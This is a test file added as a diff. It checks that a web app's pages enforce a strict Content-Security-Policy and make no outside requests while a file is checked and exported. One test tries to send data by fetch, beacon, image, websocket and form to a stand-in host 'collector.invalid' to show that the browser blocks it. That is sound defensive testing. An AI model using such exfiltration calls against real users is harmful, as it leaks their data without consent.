@@ -1,0 +1,214 @@
+// Privacy that can be proven: every page declares a strict policy, the browser enforces it, and
+// during a whole check and export the served page, the example portal and the offline file make
+// no request beyond their own static files before the file is chosen, and none at all after.
+
+import { test, before, after } from 'node:test';
+import assert from 'node:assert/strict';
+import { existsSync, readdirSync, readFileSync, statSync } from 'node:fs';
+import { join, relative } from 'node:path';
+import { fileURLToPath, pathToFileURL } from 'node:url';
+import { startServer } from '../../scripts/server.mjs';
+import {
+  OFFLINE, ROOT, TIMEOUT, assertBuilt, generatedRegister, installPortal, launch, recordRequests, settle, tempDir,
+} from './lib.mjs';
+
+let browser;
+let tmp;
+let fixture;
+let site;
+let portalDir;
+let portal;
+
+before(async () => {
+  assertBuilt([[OFFLINE, 'the single-file build']]);
+  tmp = tempDir('huqing-privacy-');
+  fixture = generatedRegister(tmp.dir, { households: 120, seed: 53 });
+  portalDir = installPortal(tmp.dir);
+  site = await startServer({ root: join(ROOT, 'www'), port: 0 });
+  portal = await startServer({ root: portalDir, port: 0 });
+  browser = await launch();
+});
+
+after(async () => {
+  await browser?.close();
+  await site?.close();
+  await portal?.close();
+  tmp?.cleanup();
+});
+
+const PAGES = [
+  ['www/index.html', "'self'"],
+  ['www/embed.html', "'self'"],
+  ['examples/portal/index.html', "'self'"],
+  ['dist/huqing-offline.html', "'none'"],
+];
+
+/** The policy a page declares, as {directive: [sources]}. */
+function policyOf(file) {
+  const html = readFileSync(join(ROOT, file), 'utf8');
+  const meta = html.match(/<meta http-equiv="Content-Security-Policy" content="([^"]*)">/);
+  assert.ok(meta, `${file} declares no Content-Security-Policy`);
+  return Object.fromEntries(meta[1].split(';').map((d) => d.trim().split(/\s+/)).filter((d) => d[0]).map(([k, ...v]) => [k, v]));
+}
+
+test('every page declares a strict policy: no third parties, nothing sent, no inline scripts', () => {
+  for (const [file, connect] of PAGES) {
+    const p = policyOf(file);
+    assert.deepEqual(p['connect-src'], [connect], `${file}: connect-src`);
+    for (const d of ['form-action', 'base-uri', 'object-src']) assert.deepEqual(p[d], ["'none'"], `${file}: ${d}`);
+    assert.ok(p['default-src'], `${file}: no default-src`);
+    for (const [directive, sources] of Object.entries(p)) {
+      for (const s of sources) {
+        // Only the page's own origin, hashes, blob: workers, data: images and wasm compilation.
+        assert.ok(["'self'", "'none'", "'wasm-unsafe-eval'", 'data:', 'blob:'].includes(s) || /^'sha256-[A-Za-z0-9+/=]+'$/.test(s),
+          `${file}: ${directive} allows ${s}`);
+      }
+    }
+    assert.ok(!p['script-src'].includes('data:') && !p['script-src'].includes('blob:'), `${file}: script-src`);
+    assert.ok(!(p['worker-src'] || []).includes('data:'), `${file}: worker-src`);
+  }
+});
+
+/** Every file of a directory, recursively. */
+function files(dir) {
+  return readdirSync(dir).flatMap((name) => {
+    const path = join(dir, name);
+    return statSync(path).isDirectory() ? files(path) : [path];
+  });
+}
+
+test('no page, script or style names another site (no CDN, font, analytics)', () => {
+  const sources = [...files(join(ROOT, 'www')), ...files(join(ROOT, 'examples', 'portal'))]
+    .filter((f) => /\.(html|js|css)$/.test(f) && !f.includes(`${join('www', 'pkg')}`));
+  assert.ok(sources.length >= 8, 'too few sources found');
+  for (const file of sources) {
+    const text = readFileSync(file, 'utf8');
+    const urls = [...text.matchAll(/(?:src|href|url|import|from|fetch)\s*[=(]?\s*["'`(]\s*((?:https?:)?\/\/[^"'`)\s]+)/g)].map((m) => m[1]);
+    assert.deepEqual(urls, [], `${relative(ROOT, file)} loads from another site`);
+    assert.doesNotMatch(text, /@import|@font-face|googleapis|gstatic|cdn\.|analytics|gtag\(|baidu\.com\/hm/i, relative(ROOT, file));
+  }
+});
+
+test('the browser enforces the served page\'s policy: attempts to send are blocked', { timeout: TIMEOUT }, async (t) => {
+  const context = await browser.newContext();
+  t.after(() => context.close());
+  const page = await context.newPage();
+  await page.goto(site.url, { waitUntil: 'load' });
+  const log = recordRequests(context, page);
+  const failures = new Map();
+  context.on('requestfailed', (r) => failures.set(r.url(), r.failure()?.errorText));
+  const result = await page.evaluate(async () => {
+    const violations = [];
+    document.addEventListener('securitypolicyviolation', (e) => violations.push(e.violatedDirective));
+    const fetched = await fetch('http://collector.invalid/upload', { method: 'POST', body: 'x' }).then(() => 'sent', () => 'blocked');
+    navigator.sendBeacon('http://collector.invalid/beacon', 'x');
+    const img = new Image();
+    img.src = 'http://collector.invalid/pixel.gif';
+    try { new WebSocket('ws://collector.invalid/'); } catch { /* blocked synchronously in some versions */ }
+    const form = document.createElement('form');
+    form.action = 'http://collector.invalid/form';
+    form.method = 'post';
+    document.body.append(form);
+    form.submit();
+    await new Promise((ok) => setTimeout(ok, 500));
+    return { fetched, violations };
+  });
+  assert.equal(result.fetched, 'blocked');
+  for (const d of ['connect-src', 'img-src', 'form-action']) {
+    assert.ok(result.violations.some((v) => v.startsWith(d)), `no ${d} violation: ${result.violations}`);
+  }
+  assert.ok(result.violations.filter((v) => v.startsWith('connect-src')).length >= 2, `fetch and beacon: ${result.violations}`);
+  // Chromium announces a blocked image before refusing it: it must fail as blocked by the policy.
+  for (const r of log.requests.filter((x) => x.url.includes('collector.invalid'))) {
+    assert.match(String(failures.get(r.url)), /csp/i, `${r.url} was not blocked by the policy`);
+  }
+});
+
+/**
+ * Opens `url`, lets it load everything it loads at start, then checks the fixture with
+ * `run(page)`. Returns the requests before the file was chosen and those after.
+ */
+async function silence(t, url, run) {
+  const context = await browser.newContext({ locale: 'zh-CN', acceptDownloads: true });
+  t.after(() => context.close());
+  const page = await context.newPage();
+  const log = recordRequests(context, page);
+  await page.goto(url, { waitUntil: 'load' });
+  await settle(log);
+  const mark = log.mark();
+  await run(page);
+  await settle(log);
+  assert.deepEqual(log.sockets, [], 'a websocket was opened');
+  assert.deepEqual(context.serviceWorkers(), [], 'a service worker was registered');
+  assert.deepEqual(log.errors, []);
+  return { before: log.requests.slice(0, mark), after: log.since(mark) };
+}
+
+/** Asserts each request is a GET of a file that exists under `root`, served from `base`. */
+function assertOwnStaticFiles(requests, base, root) {
+  assert.ok(requests.length > 0, 'nothing was loaded at all');
+  for (const r of requests) {
+    assert.equal(r.method, 'GET', `${r.method} ${r.url}`);
+    if (r.url.startsWith('data:')) continue;
+    assert.ok(r.url.startsWith(base), `${r.url} is not the page's own`);
+    let path = decodeURIComponent(new URL(r.url).pathname);
+    if (path.endsWith('/')) path += 'index.html';
+    assert.ok(existsSync(join(root, path)), `${r.url} is not one of the page's static files`);
+  }
+}
+
+async function exportCsv(page) {
+  const [download] = await Promise.all([page.waitForEvent('download'), page.locator('#export').click()]);
+  const path = join(tmp.dir, `export-${Date.now()}.csv`);
+  await download.saveAs(path);
+  assert.equal(readFileSync(path, 'utf8').trimEnd().split('\r\n').length, fixture.cli.findings.length + 1);
+}
+
+async function checkOnPage(page) {
+  await page.setInputFiles('#file', fixture.path);
+  await page.waitForFunction(() => !document.getElementById('results').hidden || !document.getElementById('error').hidden,
+    null, { timeout: TIMEOUT });
+  assert.equal(await page.locator('#error').isVisible(), false);
+  assert.equal(Number((await page.locator('#r-rows').innerText()).replace(/\D/g, '')), fixture.cli.rows);
+  await exportCsv(page);
+}
+
+test('the served page: own static files at load, then silence through check and export', { timeout: TIMEOUT * 2 }, async (t) => {
+  const { before, after } = await silence(t, site.url, checkOnPage);
+  assertOwnStaticFiles(before, site.url, join(ROOT, 'www'));
+  assert.ok(before.some((r) => r.url.endsWith('/pkg/huqing_bg.wasm')), 'the wasm should load before the file is chosen');
+  assert.deepEqual(after, [], 'requests after the file was chosen');
+});
+
+test('the example portal: own static files at load, then silence through both checks', { timeout: TIMEOUT * 2 }, async (t) => {
+  const { before, after } = await silence(t, portal.url, async (page) => {
+    const done = page.evaluate(() => new Promise((ok, fail) => {
+      const el = document.querySelector('huqing-checker');
+      el.addEventListener('huqing-done', (e) => ok(e.detail.rows), { once: true });
+      el.addEventListener('huqing-error', (e) => fail(new Error(e.detail.message_en)), { once: true });
+    }));
+    await page.locator('huqing-checker input[type=file]').setInputFiles(fixture.path);
+    assert.equal(await done, fixture.cli.rows);
+    await page.setInputFiles('#api-file', fixture.path);
+    await page.waitForSelector('#api-counts:not([hidden])', { timeout: TIMEOUT });
+  });
+  assertOwnStaticFiles(before, portal.url, portalDir);
+  assert.ok(before.some((r) => r.url.endsWith('/huqing_bg.wasm')), 'the wasm should load before the file is chosen');
+  assert.deepEqual(after, [], 'requests after the file was chosen');
+});
+
+test('the offline file: only itself at load, then silence through check and export', { timeout: TIMEOUT * 2 }, async (t) => {
+  const url = pathToFileURL(OFFLINE).href;
+  const { before, after } = await silence(t, url, checkOnPage);
+  assert.deepEqual(before.filter((r) => r.url !== url && !r.url.startsWith('blob:')), [], 'the offline file loaded another file');
+  assert.deepEqual(after, [], 'requests after the file was chosen');
+});
+
+test('the privacy test itself sees a request made after the file is chosen', { timeout: TIMEOUT }, async (t) => {
+  // A guard against a recorder that hears nothing: a request made after the mark is caught.
+  const { after } = await silence(t, site.url, async (page) => {
+    await page.evaluate(() => fetch('style.css'));
+  });
+  assert.equal(after.length, 1);
+  assert.ok(after[0].url.endsWith('/style.css'));
+});
